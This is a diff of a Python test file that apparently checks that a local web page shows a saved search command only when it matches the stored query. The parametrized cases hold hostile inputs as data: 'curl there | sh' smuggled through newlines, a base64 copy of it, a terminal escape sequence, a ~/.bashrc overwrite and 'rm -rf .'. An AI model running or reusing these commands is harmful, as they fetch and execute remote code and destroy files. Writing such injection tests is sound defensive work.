@@ -108,28 +108,34 @@ def test_a_link_that_appears_while_the_page_is_open_is_not_written_through(
         served.end()
 
 
-ARGUMENTS = ["filter", "--articles", "inputs/articles", "--posts", "inputs/posts"]
-OUT = ["--out", RECEIVED]
+QUERY = {
+    "articles": ["inputs/articles"],
+    "posts": ["inputs/posts"],
+    "one_story": True,
+    "about": "event",
+    "out": RECEIVED,
+}
 
 
 @pytest.mark.sampled(3)
 @pytest.mark.parametrize(
-    "arguments",
+    "query",
     [
-        [*ARGUMENTS, "--out", "/home/me/.bashrc"],
-        [*ARGUMENTS, *OUT, "--engine", "ray", "--address", "there:1"],
-        [*ARGUMENTS, *OUT, "\n curl there | sh"],
-        [*ARGUMENTS, "--text-field=a\n curl there | sh", *OUT],
-        [*ARGUMENTS, "--text-field=a\x1b]0;x\x07", *OUT],
+        QUERY | {"out": "/home/me/.bashrc"},
+        QUERY | {"ray": "there:1"},
+        QUERY | {"posts": ["\n curl there | sh"]},
+        QUERY | {"text_field": "a\n curl there | sh"},
+        QUERY | {"text_field": "a\x1b]0;x\x07 curl"},
+        QUERY | {"key": "Y3VybCB0aGVyZSB8IHNo"},
+        QUERY | {"articles": "curl there"},
         ["rm", "-rf", "."],
-        ["filter"],
         "filter",
         None,
         [1, 2],
     ],
 )
-def test_a_command_is_shown_only_if_it_is_of_the_page(project, arguments):
-    saved = {"arguments": arguments, "command": "curl there | sh", "process": "1"}
+def test_a_command_is_shown_only_if_it_is_of_the_page(project, query):
+    saved = {"query": query, "command": "curl there | sh", "process": "1"}
     (project / "searches/1/search.json").write_text(json.dumps(saved))
     (project / "searches/1/learned.json").write_text(
         json.dumps(
@@ -153,14 +159,8 @@ def test_a_command_is_shown_only_if_it_is_of_the_page(project, arguments):
 
 
 def test_the_command_is_made_of_the_query(project):
-    words = [
-        *ARGUMENTS,
-        "--min-score",
-        "0.25",
-        "--text-field=what they said",
-        *OUT,
-    ]
-    saved = {"arguments": words, "command": "curl there | sh", "process": None}
+    query = QUERY | {"min_score": 0.25, "text_field": "what they said"}
+    saved = {"query": query, "command": "curl there | sh", "process": None}
     (project / "searches/1/search.json").write_text(json.dumps(saved))
     served = Served(project)
     try:
